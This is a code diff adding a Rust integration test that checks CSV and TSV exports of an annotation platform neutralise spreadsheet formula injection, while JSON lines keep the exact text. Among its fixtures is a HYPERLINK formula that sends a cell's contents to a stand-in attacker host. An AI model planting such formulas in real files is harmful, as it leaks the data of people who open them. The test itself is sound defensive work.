@@ -507,3 +507,162 @@ async fn a_slow_reader_holds_the_export_back_instead_of_it_piling_up_in_memory(p
     assert!(bytes > 5000 * 60);
     app.stop().await;
 }
+
+/// The characters that make a spreadsheet run a cell as a formula.
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// Every cell either starts harmlessly or is a plain number (a score such as `-0.25`).
+fn assert_spreadsheet_safe(cells: &[&str], context: &str) {
+    for cell in cells {
+        assert!(
+            !cell.starts_with(FORMULA_STARTS) || cell.parse::<f64>().is_ok(),
+            "{context}: the cell {cell:?} would run as a formula"
+        );
+    }
+}
+
+/// Issue #21 item 2: an annotator's Check text or a pair's sentence that starts like a formula
+/// reaches CSV and TSV downloads (and the CLI) with a leading `'`, unless
+/// `spreadsheet_safe=false`; JSON lines carry the exact text.
+#[sqlx::test(migrations = "../migrations")]
+async fn formulas_reach_csv_and_tsv_files_neutralised_unless_exact_text_is_asked_for(pool: PgPool) {
+    let app = spawn_app(pool.clone()).await;
+    let (admin, _) = app.user_with_role("admin").await;
+    let (researcher, _) = app.user_with_role("researcher").await;
+    let hyperlink = r#"=HYPERLINK("http://evil.example/?leak="&A1,"Click for the answer")"#;
+
+    // APT: a Check text and a source sentence that start like formulas.
+    let apt = crate::apt::campaign(
+        &app,
+        &admin,
+        2000,
+        "text\torigin\n@SUM(A1:A9) alpha beta gamma delta\tmsrp\n",
+    )
+    .await;
+    let (worker, _) = app.annotator().await;
+    let task = crate::apt::next(&app, &worker, &apt).await;
+    let source_id = task["Write"]["source_id"].as_str().unwrap().to_owned();
+    for text in [hyperlink, "-2+3 alpha beta gamma", "+plus one two three"] {
+        let resp = crate::apt::check(&app, &worker, &apt, &source_id, text).await;
+        assert_eq!(resp.status(), StatusCode::OK, "{text}");
+    }
+    let download = |kind: &'static str, id: String, q: &'static str| {
+        let researcher = researcher.clone();
+        let url = app.url(&format!("/export/{kind}/{id}{q}"));
+        async move {
+            let resp = researcher.get(url).send().await.unwrap();
+            (resp.status(), resp.text().await.unwrap())
+        }
+    };
+    let (status, aph) = download("apt", apt.clone(), "").await;
+    assert_eq!(status, StatusCode::OK);
+    let rows: Vec<Vec<&str>> = aph
+        .lines()
+        .skip(1)
+        .map(|l| l.split('\t').collect())
+        .collect();
+    assert_eq!(rows.len(), 3);
+    for row in &rows {
+        assert_spreadsheet_safe(row, "aph");
+        assert_eq!(row[5], "'@SUM(A1:A9) alpha beta gamma delta");
+    }
+    let candidates: BTreeSet<&str> = rows.iter().map(|r| r[6]).collect();
+    assert!(
+        candidates.contains(format!("'{hyperlink}").as_str()),
+        "{aph}"
+    );
+
+    let (_, csv_text) = download("apt", apt.clone(), "?format=csv").await;
+    let (header, rows) = records(&csv_text);
+    let candidate = header.iter().position(|c| c == "candidate").unwrap();
+    for r in &rows {
+        assert_spreadsheet_safe(&r.iter().collect::<Vec<_>>(), "csv");
+    }
+    assert!(rows.iter().any(|r| r[candidate] == format!("'{hyperlink}")));
+
+    let (_, exact) = download("apt", apt.clone(), "?format=csv&spreadsheet_safe=false").await;
+    let (_, exact) = records(&exact);
+    assert!(
+        exact.iter().any(|r| r[candidate] == *hyperlink),
+        "exact text"
+    );
+
+    let (_, jsonl) = download("apt", apt.clone(), "?format=jsonl").await;
+    let texts: BTreeSet<String> = jsonl
+        .lines()
+        .map(|l| {
+            serde_json::from_str::<Value>(l).unwrap()["candidate"]
+                .as_str()
+                .unwrap()
+                .to_owned()
+        })
+        .collect();
+    assert!(
+        texts.contains(hyperlink),
+        "JSON lines keep the exact text: {texts:?}"
+    );
+
+    let (status, body) = download("apt", apt.clone(), "?spreadsheet_safe=maybe").await;
+    assert_eq!(status, StatusCode::BAD_REQUEST);
+    assert!(body.contains("spreadsheet_safe"), "{body}");
+
+    // Judging: pair sentences, through the download and the CLI alike.
+    let pairs = "sentence1,sentence2\n\
+                 \"=1+1 first\",\"+cmd second\"\n\
+                 \"@ first\",\"-minus second\"\n\
+                 plain first,plain second\n";
+    let judge = campaign(
+        &app,
+        &admin,
+        Setup {
+            judgments_per_pair: 1,
+            test_every: 0,
+            gate_min_judgments: 10_000,
+            gate_rule: None,
+            pairs_csv: pairs,
+            tests_csv: None,
+        },
+    )
+    .await;
+    let dir = tempfile::tempdir().unwrap();
+    for (options, safe) in [
+        (vec!["unresolved=keep"], true),
+        (vec!["unresolved=keep", "spreadsheet_safe=true"], true),
+        (vec!["unresolved=keep", "spreadsheet_safe=false"], false),
+    ] {
+        let out = dir.path().join("pairs.csv");
+        let query = server::export_cmd::parse_options(&options).unwrap();
+        server::export_cmd::write(
+            &pool,
+            judge.parse::<app::domain::CampaignId>().unwrap(),
+            &query,
+            out.to_str().unwrap(),
+            false,
+        )
+        .await
+        .unwrap();
+        let file = std::fs::read_to_string(&out).unwrap();
+        let (_, body) = text(
+            &researcher,
+            &app,
+            &format!("/export/judge/{judge}?{}", options.join("&")),
+        )
+        .await;
+        assert_eq!(
+            file, body,
+            "the CLI writes what the route sends: {options:?}"
+        );
+        let (_, rows) = records(&file);
+        let firsts: BTreeSet<&str> = rows.iter().map(|r| &r[1]).collect();
+        if safe {
+            for r in &rows {
+                assert_spreadsheet_safe(&r.iter().collect::<Vec<_>>(), "pairs");
+            }
+            assert!(firsts.contains("'=1+1 first") && firsts.contains("'@ first"));
+            assert!(firsts.contains("plain first"));
+        } else {
+            assert!(firsts.contains("=1+1 first") && firsts.contains("@ first"));
+        }
+    }
+    app.stop().await;
+}
